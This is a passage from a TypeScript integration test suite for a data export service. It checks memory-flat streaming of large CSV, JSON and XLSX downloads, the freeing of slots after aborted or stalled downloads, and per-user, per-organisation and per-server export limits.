    wide = await buildTestApp({ exportsPerUser: 3, exportsPerOrg: 16 }, t.database);
    await wide.app.listen({ port: 0, host: '127.0.0.1' });
    wideAt = `http://127.0.0.1:${(wide.app.server.address() as AddressInfo).port}`;
  }, 120_000);

  afterAll(async () => {
    // Only the second server: the database is the suite's.
    await wide?.app.close();
  });

  /** Memory retained after a full collection: the heap and the buffers outside it. */
  const retained = () => {
    collectGarbage();
    const m = process.memoryUsage();
    return m.heapUsed + m.arrayBuffers;
  };

  /**
   * Downloads over real HTTP, counting lines and checking some; pauses once for a while (the server
   * must stop and wait, not buffer the rest) and measures the heap retained along the way.
   */
  async function measured(q: string) {
    const before = retained();
    const { res } = await open(url(q, bigId), 'scjg.provider');
    expect(res.statusCode).toBe(200);
    let bytes = 0;
    let lines = 0;
    let peak = 0;
    let chunks = 0;
    let tail = '';
    const sampled: string[] = [];
    await new Promise<void>((resolve, reject) => {
      res.on('data', (c: Buffer) => {
        bytes += c.length;
        const text = tail + c.toString('latin1');
        const parts = text.split('\n');
        tail = parts.pop() ?? '';
        lines += parts.length;
        if (sampled.length < 3 && parts.length > 2)
          sampled.push(Buffer.from(parts[1] ?? '', 'latin1').toString('utf8'));
        chunks++;
        if (chunks === 20) {
          res.pause();
          setTimeout(() => {
            peak = Math.max(peak, retained() - before);
            res.resume();
          }, 500);
        } else if (chunks % 200 === 0) peak = Math.max(peak, retained() - before);
      });
      res.on('end', resolve);
      res.on('error', reject);
      res.resume();
    });
    return { bytes, lines, peak: Math.max(peak, retained() - before), sampled };
  }

  it('streams 200,000 rows as CSV and as JSON with the heap flat', async () => {
    const csv = await measured('format=csv');
    expect(csv.lines).toBe(ROWS + 1);
    expect(csv.bytes).toBeGreaterThan(15 * 1024 * 1024);
    // Well under the size of the file (25 MB): the server keeps a few batches, not the download.
    expect(csv.peak).toBeLessThan(16 * 1024 * 1024);
    const json = await measured('format=json');
    expect(json.lines).toBe(ROWS + 2);
    expect(json.bytes).toBeGreaterThan(25 * 1024 * 1024);
    expect(json.peak).toBeLessThan(16 * 1024 * 1024);
    expect(json.sampled[0]).toMatch(/^\{"no":\d+,"firm":"沈阳市第\d+号示范企业有限公司"/);
  }, 180_000);

  it('streams 200,000 rows as XLSX with the heap flat; the sheet has every row', async () => {
    const before = retained();
    const { res } = await open(url('format=xlsx', bigId), 'scjg.provider');
    expect(res.statusCode).toBe(200);
    const file = path.join(os.tmpdir(), `huitong-export-${process.pid}.xlsx`);
    const sink = fs.createWriteStream(file);
    let peak = 0;
    let chunks = 0;
    res.on('data', () => {
      if (++chunks % 100 === 0) peak = Math.max(peak, retained() - before);
    });
    await pipeline(res, sink);
    peak = Math.max(peak, retained() - before);
    try {
      expect(peak).toBeLessThan(16 * 1024 * 1024);
      let count = 0;
      let last: unknown[] = [];
      const reader = new ExcelJS.stream.xlsx.WorkbookReader(file, {});
      for await (const sheet of reader)
        for await (const row of sheet as AsyncIterable<ExcelJS.Row>) {
          count++;
          last = (row.values as unknown[]).slice(1);
        }
      expect(count).toBe(ROWS + 1);
      expect(last.slice(0, 3)).toEqual([ROWS, `沈阳市第${ROWS}号示范企业有限公司`, DISTRICTS[ROWS % 10]]);
    } finally {
      fs.rmSync(file, { force: true });
    }
  }, 240_000);

  /** Four downloads held by clients that do not read, within every limit of a default server. */
  const holdFour = (q = 'format=csv', at = wideAt) =>
    Promise.all(HOLDERS.map((u) => open(url(q, bigId), u, at)));

  it('aborted downloads give back their connection and their slot', async () => {
    for (let i = 0; i < 10; i++) {
      const { req, res } = await open(
        url(i % 2 === 0 ? 'format=csv' : 'format=json', bigId),
        'scjg.provider',
      );
      expect(res.statusCode).toBe(200);
      await new Promise<void>((resolve) => {
        res.once('data', () => resolve());
        res.resume();
      });
      req.destroy();
    }
    // Four slots: after the aborts, four downloads at once still run, and a fifth is refused.
    await waitForIdleExports(wideAt);
    const held = await holdFour();
    expect(held.map((h) => h.res.statusCode)).toEqual([200, 200, 200, 200]);
    const fifth = await get(url('format=csv', bigId), 'scjg.provider', wideAt);
    expect(fifth.status).toBe(503);
    expect(problemOf(fifth).code).toBe('too_many_exports');
    for (const h of held) h.req.destroy();
    await waitForIdleExports(wideAt);
    // The database answers, and a whole export runs to the end.
    const { rows } = await sql<{ n: number }>`select count(*)::int as n from data_versions`.execute(t.app.db);
    expect(Number(rows[0]?.n)).toBeGreaterThan(0);
    const whole = await get(url('format=csv&fields=no', bigId), 'scjg.provider');
    expect(whole.status).toBe(200);
    expect(whole.body.toString('utf8').trimEnd().split('\n')).toHaveLength(ROWS + 1);
    if (TEST_BACKEND === 'postgres') {
      // No export's statement is left running on the server.
      const { rows: busy } = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity
        where datname = current_database() and pid <> pg_backend_pid() and state = 'active'
          and (query ilike 'copy (%' or query ilike 'select%resource_data%')`.execute(t.app.db);
      expect(Number(busy[0]?.n)).toBe(0);
    }
  }, 180_000);

  it('limits exports per user, per organisation and per server; others still get theirs', async () => {
    await waitForIdleExports();
    const held: Awaited<ReturnType<typeof open>>[] = [];
    const hold = async (who: string) => {
      const h = await open(url('format=csv', bigId), who);
      held.push(h);
      expect(h.res.statusCode).toBe(200);
    };
    try {
      // One user (scjg.provider): two at a time; the third is refused, naming the per-user limit.
      await hold('scjg.provider');
      await hold('scjg.provider');
      const third = await get(url('format=csv', bigId), 'scjg.provider');
      expect(third.status).toBe(429);
      expect(third.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(third.headers['retry-after']).toMatch(/^\d+$/);
      expect(problemOf(third)).toMatchObject({ code: 'too_many_exports', limit: 'user' });
      expect(problemOf(third).message.zh).toContain('每个用户');
      expect(problemOf(third).message.en).toContain('per user');
      // Another exporter of the same department (its approver) still gets one: three for the department.
      await hold('scjg.approver');
      const fourth = await get(url('format=csv', bigId), 'scjg.approver');
      expect(fourth.status).toBe(429);
      expect(fourth.headers['retry-after']).toMatch(/^\d+$/);
      expect(problemOf(fourth)).toMatchObject({ code: 'too_many_exports', limit: 'organisation' });
      expect(problemOf(fourth).message.zh).toContain('每个单位');
      // A refused export holds nothing: one ended download lets the next one in.
      held.shift()?.req.destroy();
      for (let i = 0; ; i++) {
        const again = await open(url('format=csv', bigId), 'scjg.provider');
        held.push(again);
        if (again.res.statusCode === 200) break;
        expect(again.res.statusCode).toBe(429);
        if (i > 200) throw new Error('the slot of the ended download did not come back');
        await new Promise((r) => setTimeout(r, 50));
      }
    } finally {
      for (const h of held) h.req.destroy();
      await waitForIdleExports();
    }
    // The server's cap, on the second server whose per-user and per-organisation caps are wider.
    try {
      for (const who of ['scjg.provider', 'scjg.provider', 'scjg.provider', 'scjg.approver']) {
        const h = await open(url('format=csv', bigId), who, wideAt);
        held.push(h);
        expect(h.res.statusCode).toBe(200);
      }
      const fifth = await get(url('format=csv', bigId), 'scjg.approver', wideAt);
      expect(fifth.status).toBe(503);
      expect(fifth.headers['retry-after']).toMatch(/^\d+$/);
      expect(problemOf(fifth)).toMatchObject({ code: 'too_many_exports', limit: 'server' });
      expect(problemOf(fifth).message.zh).toContain('服务器');
    } finally {
      for (const h of held) h.req.destroy();
      await waitForIdleExports(wideAt);
    }
  }, 180_000);

  it('ends a download whose client stops reading, and gives back its slot and connection', async () => {
    // A server of its own on the same database: one export per user, ended after 1 s without reading.
    const idle = await buildTestApp({ exportIdleSeconds: 1, exportsPerUser: 1 }, t.database);
    try {
      await idle.app.listen({ port: 0, host: '127.0.0.1' });
      const at = `http://127.0.0.1:${(idle.app.server.address() as AddressInfo).port}`;
      const probe = async () =>
        (await get(url('format=csv&fields=no&version=999999', bigId), 'scjg.provider', at)).status;
      for (const format of ['csv', 'json', 'xlsx'] as const) {
        const { res } = await open(url(`format=${format}`, bigId), 'scjg.provider', at);
        expect(res.statusCode).toBe(200);
        // The client reads nothing: the server ends the download and the user's one slot comes back.
        for (let i = 0; (await probe()) === 429; i++) {
          if (i > 600) throw new Error(`the stalled ${format} download was not ended`);
          await new Promise((r) => setTimeout(r, 50));
        }
        // Reading at last, the client gets what was sent before the end: a response cut short.
        const got = await new Promise<{ bytes: number; complete: boolean }>((resolve) => {
          let bytes = 0;
          res.on('data', (c: Buffer) => (bytes += c.length));
          res.on('error', () => undefined);
          res.once('close', () => resolve({ bytes, complete: res.complete }));
          res.resume();
        });
        expect(got.complete, format).toBe(false);
        if (format === 'csv') expect(got.bytes).toBeLessThan(15 * 1024 * 1024);
      }
      await waitForIdleExports(at);
      // A client that reads gets the whole file from the same server.
      const whole = await get(url('format=csv&fields=no', bigId), 'scjg.provider', at);
      expect(whole.status).toBe(200);
      expect(whole.body.toString('utf8').trimEnd().split('\n')).toHaveLength(ROWS + 1);
    } finally {
      // Only the second server: the database is the suite's.
      await idle.app.close();
    }
  }, 180_000);

  it('HEAD requests answer the headers and hold no slot or connection', async () => {
    for (let i = 0; i < 6; i++) {
      const res = await new Promise<http.IncomingMessage>((resolve, reject) => {
        const req = http.request(
          `${base}${url('format=csv', bigId)}`,
          { method: 'HEAD', headers: { cookie: as('scjg.provider').cookie } },
          (r) => {
            r.resume();
            r.on('end', () => resolve(r));
          },
        );
        req.on('error', reject);
        req.end();
      });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    }
    await waitForIdleExports(wideAt);
    const held = await holdFour();
    expect(held.map((h) => h.res.statusCode)).toEqual([200, 200, 200, 200]);
    for (const h of held) h.req.destroy();
    await waitForIdleExports(wideAt);
  }, 120_000);

  /**
   * Waits until no export holds a slot or a connection (an aborted one is cleaned up
   * asynchronously): each holder's request is let in, and on PostgreSQL no lease session is busy
   * or holds its lock.
   */
  async function waitForIdleExports(at = base) {
    for (let i = 0; i < 200; i++) {
      let free = true;
      for (const who of new Set(HOLDERS)) {
        const g = await get(url('format=csv&fields=no&version=999999', bigId), who, at);
        // 404 (not 429 or 503): a slot was free to check the request.
        if (g.status !== 404) free = false;
      }
      if (free) {
        if (TEST_BACKEND !== 'postgres') return;
        const { rows } = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity a
          where a.datname = current_database() and a.application_name = 'huitong-lease'
            and (a.state <> 'idle' or exists (select 1 from pg_locks l
                  where l.pid = a.pid and l.locktype = 'advisory' and l.granted))`.execute(t.app.db);
        if (Number(rows[0]?.n) === 0) return;
      }
      await new Promise((r) => setTimeout(r, 50));
    }
    throw new Error('exports did not finish');
  }
});
